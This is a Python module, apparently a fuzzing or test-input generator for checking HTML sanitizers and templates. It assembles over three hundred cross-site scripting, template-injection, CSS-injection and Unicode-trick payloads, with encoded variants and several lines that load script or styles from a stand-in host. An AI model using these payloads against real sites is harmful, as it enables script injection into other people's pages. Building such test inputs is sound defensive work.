"""Three hundred things people could write to make a page do what they want, none longer than 160."""

from __future__ import annotations

import html
import itertools
from urllib.parse import quote

RUN = "alert('pwned')"
MARKS = ("pwned", "9359")  # what would be seen if a script or a template ran (1337 x 7)
HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart")
TAGS = (
    "<img src=x {}>",
    "<svg {}>",
    "<body {}>",
    "<input autofocus {}>",
    "<details open {}>",
    "<video src=x {}></video>",
    "<marquee {}>x</marquee>",
    "<a href=# {}>x</a>",
    "<style>@keyframes x{{}}</style><b style=animation-name:x {}>",
)
BREAKS = (
    '"',
    "'",
    "`",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "]]>",
    "\\",
    "\x00",
    "</style>",
)
WHOLE = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    "<script src=//pwned.example></script>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgncHduZWQnKTwvc2NyaXB0Pg==>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    "<base href=//pwned.example>",
    "<link rel=stylesheet href=//pwned.example>",
    "<meta http-equiv=refresh content=0;url=//pwned.example>",
    f"javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "<p hx-get=/pwned hx-trigger=load>",
    "<p data-draft data-dialog=pwned>",
)
TEMPLATES = (
    "{{ 1337*7 }}",
    "{% load i18n %}",
    "{{ request.user.password }}",
    "{% include 'base.html' %}",
    "${1337*7}",
    "#{1337*7}",
    "<%= 1337*7 %>",
    "{{constructor.constructor('alert(`pwned`)')()}}",
    "%(name)s",
    "{0.__class__}",
    "{name}",
    "%s%n",
)
STYLES = (
    "<style>*{display:none}</style>",
    "</p><p style='position:fixed;inset:0'>",
    "url(javascript:alert(1))",
    "expression(alert('pwned'))",
    "@import '//pwned.example';",
    "/*</style>*/",
)
UNICODE = (
    "\u202e<tpircs>\u202c",
    "\u2066\u202eadmin\u2069",
    "\u200f\u200e\u202a\u202b\u202d",
    "\uff1cscript\uff1ealert('pwned')\uff1c/script\uff1e",
    "\u003cscript\u003ealert('pwned')\u003c/script\u003e",
    "\ufeff<img src=x onerror=alert('pwned')>",
    "Z\u0351\u036b\u0343a\u034a\u0346l\u0301\u0300g\u0308\u0307o" * 4,
    "\u0130\u0131\u017f\u212a<\u017fcript>",
    "לחוכמה <b>אין</b> גיל",
    "👩‍👩‍👧‍👦" * 5,
    "\ud7ff\ue000\ufffd",
    "a\u0300" * 40,
)


def payloads() -> list[str]:
    """Return more than three hundred texts: tags x handlers, ways out, encodings, templates, styles."""
    handled = [tag.format(f"{handler}={RUN}") for tag, handler in itertools.product(TAGS, HANDLERS)]
    spoken = handled + list(WHOLE)
    found = [
        *WHOLE,
        *TEMPLATES,
        *STYLES,
        *UNICODE,
        *handled,
        *(f"{way_out}{tag}" for way_out in BREAKS for tag in (WHOLE[0], handled[0], handled[8])),
        *(html.escape(text) for text in spoken[::2]),
        *(quote(text) for text in spoken[::3]),
        *("".join(f"&#{ord(sign)};" for sign in text)[:160] for text in spoken[::4]),
        *(text.replace(" ", "/").upper() for text in spoken[::2]),
        *(text.replace("<", "<\n") for text in spoken[::3]),
        *(f"{text}<!--" for text in spoken[::4]),
    ]
    return list(dict.fromkeys(text.replace("\x00", "")[:160] for text in found))
